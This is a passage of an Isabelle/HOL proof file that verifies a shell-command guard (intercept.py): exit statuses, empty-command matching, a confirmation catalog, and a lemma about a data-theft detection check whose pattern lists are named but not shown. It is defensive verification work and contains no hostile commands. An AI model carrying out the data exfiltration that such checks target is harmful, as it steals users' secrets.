  have m: "runs (main re_search None [''make'', ''test''] EndOfInput (\<lambda>c. Returned 2)) \<noteq> []"
    using b t c by (simp add: main_def execute_def Let_def)
  show ?thesis
    using C8_exit_status_of_a_run [of re_search "''make test''" "[]" EndOfInput
            "\<lambda>c. Returned 2" 2 "''no shell''" None "[''make'', ''test'']"]
          C8_exit_status_of_a_run [of re_search "''make test''" "[]" EndOfInput
            "\<lambda>c. StartFailure ''no shell''" 2 "''no shell''" None "[''make'', ''test'']"]
          a s m
    by simp
qed

text \<open>
  Without the amendment the statement fails, in both halves. The status after a failure
  to start is not distinct from what a command can produce: the same run of \<open>false\<close> ends
  with status 1 when the executor cannot start and when the command itself returns 1.
  And the status of the process is not the returned status when a signal killed the
  command: for the return code \<open>-9\<close> the process ends with status 247.
\<close>

theorem C8_process_status_counterexample:
  "main_body re_search True ''false'' [] EndOfInput (\<lambda>c. StartFailure ''no shell'') =
     \<lparr>status = Exit 1,
      log = [(''false'', ''ALLOWED_DEFAULT'', ''No matching rule''),
             (''false'', ''ERROR'', ''no shell'')],
      prompts = 0, runs = [''false'']\<rparr>
   \<and> main_body re_search True ''false'' [] EndOfInput (\<lambda>c. Returned 1) =
     \<lparr>status = Exit 1, log = [(''false'', ''ALLOWED_DEFAULT'', ''No matching rule'')],
      prompts = 0, runs = [''false'']\<rparr>
   \<and> runs (main_body re_search True ''sleep 60'' [] EndOfInput (\<lambda>c. Returned (- 9)))
       = [''sleep 60'']
   \<and> process_exit_status
       (status (main_body re_search True ''sleep 60'' [] EndOfInput (\<lambda>c. Returned (- 9))))
       = Some 247"
  by (simp add: main_body_def allow_tier_def finish_main_def dict_get_def truthy_def)

section \<open>The empty command\<close>

text \<open>
  Claim C9, amended. For a command without a token, \<open>is_blocked\<close> and
  \<open>needs_confirmation\<close> answer false, and \<open>match_pattern\<close> answers false for every pattern
  whose program part is neither \<open>*\<close> nor empty. The program of the empty command is the
  empty string, which the program part \<open>*\<close> accepts: the patterns \<open>*\<close>, \<open>*:*\<close> and the empty
  pattern match the empty command.
\<close>

theorem C9_empty_command:
  assumes "str_split command = []"
  shows "is_blocked rx command = Inr (False, '''')
       \<and> needs_confirmation command = (False, '''')
       \<and> (fst (split_colon pattern) \<noteq> ''*'' \<and> fst (split_colon pattern) \<noteq> '''' \<longrightarrow>
            match_pattern rx command pattern = Inr False)
       \<and> match_pattern rx command ''*'' = Inr True
       \<and> match_pattern rx command ''*:*'' = Inr True
       \<and> match_pattern rx command '''' = Inr True"
proof -
  have p: "parse_command command = ('''', [])"
    using assms by (simp add: parse_command_def)
  have m: "match_pattern rx command pattern = Inr False"
    if "fst (split_colon pattern) \<noteq> ''*''" and "fst (split_colon pattern) \<noteq> ''''"
  proof (cases "CHR '':'' \<in> set pattern")
    case True
    then show ?thesis
      using that p by (simp add: match_pattern_def Let_def split: prod.splits) auto
  next
    case False
    then have "fst (split_colon pattern) = pattern"
      by (rule split_colon_no_colon)
    with False that p show ?thesis
      by (simp add: match_pattern_def Let_def)
  qed
  show ?thesis
    using assms p m
    by (simp add: is_blocked_def needs_confirmation_def match_pattern_def split_colon_def)
qed

theorem C9_empty_command_witness:
  "str_split ''  '' = []
   \<and> is_blocked re_search ''  '' = Inr (False, '''')
   \<and> needs_confirmation ''  '' = (False, '''')
   \<and> match_pattern re_search ''  '' ''ls:*'' = Inr False
   \<and> match_pattern re_search ''  '' ''*'' = Inr True"
proof -
  have e: "str_split ''  '' = []"
    by (simp add: str_split_def isspace_def)
  have f: "fst (split_colon ''ls:*'') \<noteq> ''*'' \<and> fst (split_colon ''ls:*'') \<noteq> ''''"
    by (simp add: split_colon_def)
  show ?thesis
    using C9_empty_command [OF e, of re_search "''ls:*''"] e f by simp
qed

text \<open>
  Without the amendment the statement fails: the empty string has no token, and the
  pattern \<open>*\<close> matches it.
\<close>

theorem C9_wildcard_matches_empty_counterexample:
  "str_split '''' = [] \<and> match_pattern re_search '''' ''*'' = Inr True"
  by (simp add: match_eval)

text \<open>With the switch on, the data-theft check finds nothing in the empty string either.\<close>

lemma data_theft_on_empty_string:
  "is_data_theft re_search (Some ''true'') '''' = Inr (False, '''')"
  by (simp add: is_data_theft_def toggle_values DATA_THEFT_PATTERNS_def
                SENSITIVE_FILE_PATTERNS_def TRANSFER_VERBS_def re_eval)

section \<open>The confirmation catalog of intercept.py\<close>

lemma needs_confirmation_catalog:
  assumes "str_split command = cmd # rest"
  shows "fst (needs_confirmation command) =
           (\<exists>entries. map_of CONFIRM_COMMANDS cmd = Some entries \<and>
              (\<exists>e \<in> set entries. sublist e (str_join '' '' rest)))"
  using assms
  by (auto simp: needs_confirmation_def Let_def str_in_sublist find_None_iff
           split: option.splits dest: find_is_hit)



end
